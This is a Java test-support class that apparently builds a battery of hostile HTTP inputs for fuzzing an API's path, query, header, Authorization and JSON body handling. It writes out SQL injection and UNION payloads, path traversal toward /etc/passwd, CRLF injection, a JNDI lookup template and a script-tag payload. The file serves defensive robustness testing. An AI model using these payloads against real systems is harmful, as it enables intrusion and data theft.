package kr.codeb.control.support;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;

/**
 * The battery of hostile inputs: path segments and query values as they go on the wire, header values, whole request
 * bodies and JSON values that replace one field of a valid body.
 */
public final class HostileValues {

    /** One hostile input: a label for reports and its text (wire text for paths and queries, JSON text for fields). */
    public record Value(String label, String text) {
    }

    /** A whole request body with its content type (null: no Content-Type header). */
    public record Body(String label, String contentType, byte[] bytes) {
    }

    private static final String JSON = "application/json";

    private HostileValues() {
    }

    public static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    /** Replacements for one path parameter, as written in the request target. */
    public static List<Value> pathSegments() {
        List<Value> v = new ArrayList<>();
        v.add(new Value("dot-dot", ".."));
        v.add(new Value("dot", "."));
        v.add(new Value("empty", ""));
        v.add(new Value("encoded traversal", "%2e%2e%2f"));
        v.add(new Value("deep encoded traversal", "..%2f..%2f..%2fetc%2fpasswd"));
        v.add(new Value("double-encoded traversal", "%252e%252e%252f"));
        v.add(new Value("encoded slash", "a%2Fb"));
        v.add(new Value("encoded backslash", "..%5C..%5Cwin.ini"));
        v.add(new Value("NUL escape", "%00"));
        v.add(new Value("NUL inside", "abc%00def"));
        v.add(new Value("overlong NUL", "%C0%80"));
        v.add(new Value("invalid UTF-8", "%ff%fe"));
        v.add(new Value("malformed escape", "%u0000"));
        v.add(new Value("lone percent", "%"));
        v.add(new Value("backslash-u0000 text", encode("\\u0000")));
        v.add(new Value("5000 chars", "a".repeat(5_000)));
        // 24 KB once percent-encoded: over the request-line limit, so the HTTP server answers before any resource runs
        v.add(new Value("2000 encoded emoji", encode("\uD83D\uDE00".repeat(2_000))));
        v.add(new Value("emoji", encode("\uD83D\uDE00\uD83D\uDE80")));
        v.add(new Value("right-to-left override", encode("\u202Egnp.exe")));
        v.add(new Value("combining marks", encode("e\u0301\u0302\u0303\u0304")));
        v.add(new Value("zero-width", encode("\u200B\uFEFF")));
        v.add(new Value("hangul", encode("\uD55C\uAE00\uD300")));
        v.add(new Value("SQL injection", encode("' OR 1=1 --")));
        v.add(new Value("SQL union", encode("x' UNION SELECT key_hash FROM api_keys--")));
        v.add(new Value("minus one", "-1"));
        v.add(new Value("zero", "0"));
        v.add(new Value("huge number", "99999999999999999999"));
        v.add(new Value("space", "%20"));
        v.add(new Value("CRLF injection", "x%0d%0aX-Injected:%201"));
        v.add(new Value("matrix parameter", "x;a=b"));
        v.add(new Value("encoded percent", "%25"));
        v.add(new Value("JSON operator", encode("{\"$ne\":null}")));
        v.add(new Value("template", encode("${jndi:ldap://x/a}")));
        v.add(new Value("markup", encode("<script>alert(1)</script>")));
        v.add(new Value("upper case", "PRODUCTION"));
        return v;
    }

    /** Bad values for any query parameter (limit, cursor, dates, booleans, enumerations, filters), as written in the target. */
    public static List<Value> queryValues() {
        List<Value> v = new ArrayList<>();
        v.add(new Value("empty", ""));
        v.add(new Value("minus one", "-1"));
        v.add(new Value("zero", "0"));
        v.add(new Value("over max", "201"));
        v.add(new Value("fraction", "1.5"));
        v.add(new Value("exponent", "1e3"));
        v.add(new Value("word", "abc"));
        v.add(new Value("huge number", "99999999999999999999"));
        v.add(new Value("NUL escape", "%00"));
        v.add(new Value("invalid UTF-8", "%ff%fe"));
        v.add(new Value("malformed escape", "%u0000"));
        v.add(new Value("5000 chars", "a".repeat(5_000)));
        v.add(new Value("emoji", encode("\uD83D\uDE00")));
        v.add(new Value("right-to-left override", encode("\u202Etrue")));
        v.add(new Value("SQL injection", encode("' OR 1=1 --")));
        v.add(new Value("not a boolean", "maybe"));
        v.add(new Value("upper-case boolean", "TRUE"));
        v.add(new Value("boolean with NUL", "true%00"));
        v.add(new Value("impossible date-time", "2026-13-45T25:61:61Z"));
        v.add(new Value("impossible date", "2026-02-30"));
        v.add(new Value("date-time without zone", "2026-01-01T00:00:00"));
        v.add(new Value("extreme year", encode("+999999999-12-31T23:59:59Z")));
        v.add(new Value("word date", "yesterday"));
        v.add(new Value("unknown enum", "not-a-value"));
        v.add(new Value("upper-case enum", "PRODUCTION"));
        v.add(new Value("not base64", "!!!"));
        v.add(new Value("padded base64", "eA=="));
        v.add(new Value("one-part cursor", Base64.getUrlEncoder().withoutPadding().encodeToString("x".getBytes(StandardCharsets.UTF_8))));
        v.add(new Value("cursor with empty part", Base64.getUrlEncoder().withoutPadding()
                .encodeToString("2026-01-01T00:00:00Z\u001f".getBytes(StandardCharsets.UTF_8))));
        v.add(new Value("cursor with bad date", Base64.getUrlEncoder().withoutPadding()
                .encodeToString("not-a-date\u001fx".getBytes(StandardCharsets.UTF_8))));
        v.add(new Value("cursor of invalid UTF-8", Base64.getUrlEncoder().withoutPadding().encodeToString(new byte[] {(byte) 0xff, (byte) 0xfe})));
        v.add(new Value("list with holes", encode("a,,b,")));
        v.add(new Value("traversal", encode("../..")));
        return v;
    }

    /** Bad values for header parameters (If-Match). */
    public static List<Value> headerValues() {
        return List.of(new Value("empty", ""), new Value("star", "*"), new Value("unquoted", "garbage"),
                new Value("open quote", "\"garbage"), new Value("weak", "W/\"1\""), new Value("minus one", "\"-1\""),
                new Value("huge number", "\"99999999999999999999\""), new Value("impossible date", "\"2026-13-45T00:00:00Z\""),
                new Value("5000 chars", "\"" + "a".repeat(5_000) + "\""), new Value("list", "\"1\", \"2\""));
    }

    /** Hostile Authorization header values: each must be a 401 problem before anything else happens. */
    public static List<Value> authorizations() {
        return List.of(new Value("empty bearer", "Bearer "), new Value("basic", "Basic YWRtaW46YWRtaW4="),
                new Value("long bearer", "Bearer " + "a".repeat(5_000)), new Value("SQL bearer", "Bearer ' OR 1=1 --"),
                new Value("key-shaped bearer", "Bearer codeb_abcdefgh_owner_" + "A".repeat(24)),
                new Value("latin-1 bearer", "Bearer \u00ff\u00fe"));
    }

    /** Whole bodies that are not a valid request: malformed, wrong JSON type, empty, deep, wrongly typed or encoded. */
    public static List<Body> bodies(String validJson) {
        List<Body> b = new ArrayList<>();
        for (String malformed : List.of("{", "{\"a\":", "{\"a\":1,}", "{'a':1}", "nul", "{\"a\":01}", "[1,2", "\"unterminated",
                "{\"a\":NaN}", "{\"a\":1}garbage", "{\"a\" 1}", "}")) {
            b.add(json("malformed " + malformed, malformed));
        }
        b.add(new Body("byte-order mark", JSON, ("\uFEFF" + validJson).getBytes(StandardCharsets.UTF_8)));
        for (String wrongType : List.of("[]", "[{}]", "\"string\"", "42", "-1.5e400", "null", "true", "{}")) {
            b.add(json("JSON " + wrongType, wrongType));
        }
        b.add(json("empty", ""));
        b.add(json("whitespace", "   \r\n\t"));
        b.add(json("nested arrays 100000 deep", "[".repeat(100_000) + "]".repeat(100_000)));
        b.add(json("nested objects 20000 deep", "{\"a\":".repeat(20_000) + "1" + "}".repeat(20_000)));
        b.add(json("10000 unknown fields", unknownFields(10_000)));
        b.add(new Body("invalid UTF-8", JSON, concat("{\"name\":\"".getBytes(StandardCharsets.UTF_8),
                new byte[] {(byte) 0xff, (byte) 0xfe, (byte) 0xc0, (byte) 0x80}, "\"}".getBytes(StandardCharsets.UTF_8))));
        b.add(new Body("NUL bytes", JSON, ("{\"name\":\"a\u0000b\"}").getBytes(StandardCharsets.UTF_8)));
        b.add(new Body("UTF-16 declared", JSON + "; charset=UTF-16", validJson.getBytes(StandardCharsets.UTF_16)));
        b.add(new Body("unknown charset", JSON + "; charset=x-no-such-charset", validJson.getBytes(StandardCharsets.UTF_8)));
        b.add(new Body("over 1 MiB", JSON, ("{\"name\":\"" + "a".repeat(1024 * 1024) + "\"}").getBytes(StandardCharsets.UTF_8)));
        for (String type : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
                "application/octet-stream", "*/*", "application/json-patch+json", "garbage", "application/json; charset")) {
            b.add(new Body("content type " + type, type, validJson.getBytes(StandardCharsets.UTF_8)));
        }
        b.add(new Body("no content type", null, validJson.getBytes(StandardCharsets.UTF_8)));
        return b;
    }

    /** A few bodies for routes that document none: the server must ignore or refuse them, never fail. */
    public static List<Body> unexpectedBodies() {
        return List.of(json("malformed", "{\"a\":"), json("JSON array", "[]"),
                new Body("text", "text/plain", "hello".getBytes(StandardCharsets.UTF_8)),
                json("nested arrays 100000 deep", "[".repeat(100_000) + "]".repeat(100_000)));
    }

    /** JSON texts that replace one field of a valid body: wrong types, extremes, control characters, nesting. */
    public static List<Value> fieldValues() {
        List<Value> v = new ArrayList<>();
        for (String number : List.of("1", "-1", "0", "1.5", "1e309", "99999999999999999999", "-99999999999999999999")) {
            v.add(new Value("number " + number, number));
        }
        v.add(new Value("true", "true"));
        v.add(new Value("false", "false"));
        v.add(new Value("null", "null"));
        v.add(new Value("empty array", "[]"));
        v.add(new Value("mixed array", "[1,\"a\",null,{}]"));
        v.add(new Value("10000-element array", "[" + String.join(",", java.util.Collections.nCopies(10_000, "\"x\"")) + "]"));
        v.add(new Value("empty object", "{}"));
        v.add(new Value("nested object", "{\"nested\":{\"deeper\":{\"deepest\":[1,{\"x\":null}]}}}"));
        v.add(new Value("2000-deep array", "[".repeat(2_000) + "]".repeat(2_000)));
        v.add(new Value("empty string", "\"\""));
        v.add(new Value("blank string", "\"   \""));
        v.add(new Value("100 KB string", "\"" + "a".repeat(100 * 1024) + "\""));
        v.add(new Value("control characters", "\"\\u0000\\u0001\\u0007\\b\\u001b\\u007f\\r\\n\\t\""));
        v.add(new Value("NUL only", "\"\\u0000\""));
        v.add(new Value("object holding NUL", "{\"text\":\"a\\u0000b\",\"\\u0000\":1}"));
        v.add(new Value("array holding NUL", "[\"\\u0000\",{\"k\":\"\\u0000\"}]"));
        v.add(new Value("lone surrogate", "\"\\ud800\""));
        v.add(new Value("reversed surrogates", "\"\\udc00\\ud800\""));
        v.add(new Value("unicode mix", "\"\uD83D\uDE00\u202Ecombine\u0301\u0302 \uD55C\uAE00\""));
        v.add(new Value("unknown enum", "\"not-an-enum-value\""));
        v.add(new Value("upper case", "\"PRODUCTION\""));
        v.add(new Value("SQL injection", "\"' OR 1=1 --\""));
        v.add(new Value("impossible date-time", "\"2026-13-45T25:61:61Z\""));
        v.add(new Value("extreme date-time", "\"+999999999-12-31T23:59:59Z\""));
        v.add(new Value("traversal", "\"../../etc/passwd\""));
        v.add(new Value("numeric string", "\"42\""));
        v.add(new Value("template", "\"${jndi:ldap://x/a}\""));
        return v;
    }

    private static Body json(String label, String text) {
        return new Body(label, JSON, text.getBytes(StandardCharsets.UTF_8));
    }

    private static String unknownFields(int n) {
        StringBuilder s = new StringBuilder("{");
        for (int i = 0; i < n; i++) {
            s.append(i == 0 ? "" : ",").append("\"f").append(i).append("\":").append(i);
        }
        return s.append('}').toString();
    }

    private static byte[] concat(byte[]... parts) {
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }
}
